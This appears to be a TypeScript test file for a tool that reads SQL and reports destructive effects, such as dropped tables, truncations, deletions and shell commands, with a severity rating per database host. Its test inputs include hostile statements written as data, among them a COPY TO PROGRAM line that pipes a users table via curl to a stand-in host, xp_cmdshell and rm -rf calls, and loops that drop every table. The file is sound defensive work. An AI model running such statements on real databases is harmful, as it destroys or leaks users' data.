import assert from "node:assert/strict";
import { storeOfUrl, type Store } from "../../../src/engine/sql/store";
import { inDialect, lines, local, t } from "./cases";
import { cpuTime } from "../../support/cpuTime";

describe("what SQL does beyond plain statements", () => {
  describe("text inside text", () => {
    t(
      "DO $$ BEGIN DELETE FROM users; END $$",
      "delete rows of users in app on localhost (irreversible)",
    );
    t(
      "DO $x$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'DROP TABLE IF EXISTS ' || quote_ident(r.tablename) || ' CASCADE'; END LOOP; END $x$",
      "drop table computed_name in app on localhost, and what depends on it (irreversible)",
    );
    t(
      "DO $$ BEGIN EXECUTE format('TRUNCATE %I', 'users'); END $$",
      "truncate table users in app on localhost (irreversible)",
    );
    t(
      "DO $$ BEGIN IF EXISTS (SELECT 1 FROM a) THEN TRUNCATE TABLE a; END IF; END $$",
      "truncate table a in app on localhost (irreversible)",
    );
    t(
      "DO $$ BEGIN EXECUTE stmt; END $$",
      "unknown dynamic: the statement `stmt` is put together when it runs",
    );
    t("CREATE FUNCTION wipe() RETURNS void AS $$ BEGIN DELETE FROM users; END $$ LANGUAGE plpgsql");
    t(
      "CREATE FUNCTION wipe() RETURNS void AS $$ DELETE FROM users $$ LANGUAGE sql; SELECT wipe();",
      "delete rows of users in app on localhost (irreversible)",
    );
    t(
      "CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
      "change database object function f in app on localhost (recoverable)",
    );
    t(
      "CREATE OR REPLACE VIEW v AS SELECT 1",
      "change database object view v in app on localhost (recoverable)",
    );
    t("CREATE TRIGGER t BEFORE DELETE OR UPDATE ON users EXECUTE FUNCTION f()");
    t(
      "SELECT 'DROP TABLE ' || tablename FROM pg_tables \\gexec",
      "drop table computed_name in app on localhost (irreversible)",
    );
    inDialect(
      "sqlite",
      "CREATE TRIGGER t AFTER INSERT ON a BEGIN DELETE FROM b; UPDATE c SET d = 1; END; SELECT 1;",
    );
    inDialect(
      "mysql",
      "DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM a; IF 1 THEN DROP TABLE b; END IF; END //\nDELIMITER ;\nCALL p();",
      "delete rows of a in app on localhost (irreversible)",
      "drop table b in app on localhost (irreversible)",
    );
    inDialect(
      "any",
      "EXEC sp_executesql N'DROP TABLE a'",
      "drop table a in app on localhost (irreversible)",
    );
    inDialect(
      "any",
      "EXEC(@sql)",
      "unknown dynamic: the statement `( @sql )` is put together when it runs",
    );
  });

  describe("outside of the database", () => {
    t(
      "COPY users TO PROGRAM 'curl -d @- https://x.example'",
      "unknown dynamic: the statement runs `curl -d @- https://x.example` on the database server, which is not looked into",
    );
    t("COPY users TO '/tmp/users.csv'", "overwrite /tmp/users.csv");
    t("COPY users FROM STDIN");
    t("\\copy users to 'out.csv' csv header", "overwrite /w/out.csv");
    t("\\copy (select 1) to stdout");
    t(
      "\\copy users from program 'cat x'",
      "unknown dynamic: the statement runs `cat x` on this machine, which is not looked into",
    );
    t(
      "\\! rm -rf build",
      "unknown dynamic: the statement runs `rm -rf build` on this machine, which is not looked into",
    );
    t("SELECT 1; \\o out.txt\nSELECT 2;", "overwrite /w/out.txt");
    t("\\i drop.sql", "drop table from_file in app on localhost (irreversible)");
    t("\\i missing.sql", "execute /w/missing.sql");
    t(
      "\\i loop.sql",
      "execute /w/loop.sql",
      "drop table looped in app on localhost (irreversible)",
    );
    t("\\c other\nDROP TABLE a", "drop table a in other on localhost (irreversible)");
    t("\\dt\n\\d+ users\nSELECT 1;");
    inDialect(
      "any",
      "EXEC xp_cmdshell 'del c:\\x'",
      "unknown dynamic: the statement runs `del c:\\x` on the database server, which is not looked into",
    );
  });

  describe("dialects", () => {
    inDialect(
      "mysql",
      "DELETE FROM `my-db`.`users` LIMIT 10; # DROP TABLE x",
      "change rows of my-db.users in app on localhost (none)",
    );
    inDialect(
      "mysql",
      "INSERT INTO a VALUES ('it\\'s'); DROP TABLE b",
      "drop table b in app on localhost (irreversible)",
    );
    inDialect(
      "mysql",
      "/*!50001 DROP TABLE a */",
      "drop table a in app on localhost (irreversible)",
    );
    inDialect(
      "mysql",
      "SELECT 1\\G DROP TABLE a;",
      "drop table a in app on localhost (irreversible)",
    );
    inDialect(
      "mysql",
      "USE other; TRUNCATE t",
      "truncate table t in other on localhost (irreversible)",
    );
    inDialect("mysql", "REPLACE INTO a VALUES (1)", "change rows of a in app on localhost (none)");
    inDialect(
      "any",
      "DROP TABLE [dbo].[Users]\nGO\nSELECT 1",
      "drop table dbo.Users in app on localhost (irreversible)",
    );
    inDialect(
      "any",
      "SET NOCOUNT ON DELETE FROM a DELETE FROM b WHERE id = 1",
      "delete rows of a in app on localhost (irreversible)",
      "change rows of b in app on localhost (none)",
    );
    inDialect(
      "any",
      "IF OBJECT_ID('a') IS NOT NULL DROP TABLE a",
      "drop table a in app on localhost (irreversible)",
    );
    inDialect("any", "DELETE TOP (5) FROM a", "change rows of a in app on localhost (none)");
    inDialect(
      "any",
      "CREATE OR REPLACE TABLE t AS SELECT 1",
      "drop table t in app on localhost (irreversible)",
    );
    inDialect(
      "any",
      "ALTER TABLE t DELETE WHERE 1",
      "delete rows of t in app on localhost (irreversible)",
    );
    inDialect(
      "any",
      "ALTER TABLE t DROP PARTITION '2024'",
      "drop database object partition t.2024 in app on localhost (irreversible)",
    );
    inDialect(
      "any",
      "INSERT OVERWRITE TABLE t SELECT 1",
      "truncate table t in app on localhost (irreversible)",
    );
    inDialect(
      "any",
      "DROP WAREHOUSE w",
      "drop database object warehouse w in app on localhost (irreversible)",
    );
    inDialect(
      "sqlite",
      ".shell rm x\n.read drop.sql\n.output o.txt\n.tables",
      "unknown dynamic: the statement runs `rm x` on this machine, which is not looked into",
      "drop table from_file in app on localhost (irreversible)",
      "overwrite /w/o.txt",
    );
    inDialect(
      "sqlite",
      'UPDATE a SET x = "DROP TABLE b" WHERE id = 1',
      "change rows of a in app on localhost (none)",
    );
    t("SELECT a[1], b::text, $1 FROM t WHERE x = $tag$DROP TABLE a$tag$");
    t("SELECT E'\\'; DROP TABLE a; --'");
  });

  describe("stores", () => {
    const at = (url: string): Store => storeOfUrl(url) ?? local;
    const on = (url: string, text: string, ...expected: readonly string[]): void => {
      it(`${url}: ${text}`, () => {
        assert.deepEqual(lines(text, at(url), "postgres"), expected);
      });
    };
    on(
      "postgres://u:secret@db.prod.example.com:5432/shop",
      "DROP TABLE a",
      "drop table a in shop on db.prod.example.com (catastrophic)",
    );
    on(
      "postgres://u@x.railway.app/railway",
      "DROP TABLE a",
      "drop table a in railway on x.railway.app (irreversible)",
    );
    on(
      "postgres://localhost/app_test",
      "DROP TABLE a",
      "drop table a in app_test on localhost (regenerable)",
    );
    on(
      "postgres://db.example.com/app_test",
      "DROP TABLE a",
      "drop table a in app_test on db.example.com (irreversible)",
    );
    on(
      "postgresql:///app?host=/var/run/postgresql",
      "DELETE FROM a",
      "delete rows of a in app on /var/run/postgresql (irreversible)",
    );
    on(
      "host=prod-1.x dbname=shop",
      "DELETE FROM a WHERE id = 1",
      "change rows of a in shop on prod-1.x (irreversible)",
    );
    on(
      "postgres://nonprod.example.com/products",
      "DELETE FROM a WHERE id = 1",
      "change rows of a in products on nonprod.example.com (none)",
    );
    it("never shows a password", () => {
      assert.ok(!JSON.stringify(at("postgres://u:secret@h/d")).includes("secret"));
    });
  });

  it("says when a text is too long to be read", () => {
    const text = `DROP TABLE a; ${" ".repeat(1_000_000)} DROP TABLE b;`;
    assert.deepEqual(lines(text, local, "postgres"), [
      "drop table a in app on localhost (irreversible)",
      "unknown limit: only the first million characters of the SQL were read",
    ]);
  });

  it("survives any text, in time", () => {
    const nasty = [
      "'",
      "$$",
      "/*",
      "((((",
      "DELETE FROM ",
      "DROP TABLE ",
      "EXEC ",
      "f(",
      "[",
      "\\copy",
      "BEGIN ",
      "\u0000",
      "WHERE (",
      "\\",
      "`",
      "CREATE FUNCTION a() AS $$",
    ];
    for (const piece of nasty) {
      for (const dialect of ["postgres", "mysql", "sqlite", "any"] as const) {
        const took = cpuTime(() => {
          lines(piece.repeat(3_000), local, dialect);
          lines(`DELETE FROM t WHERE ${piece.repeat(300)}`, local, dialect);
        });
        assert.ok(took < 2_000, `${took} ms on ${piece} in ${dialect}`);
      }
    }
  });
});
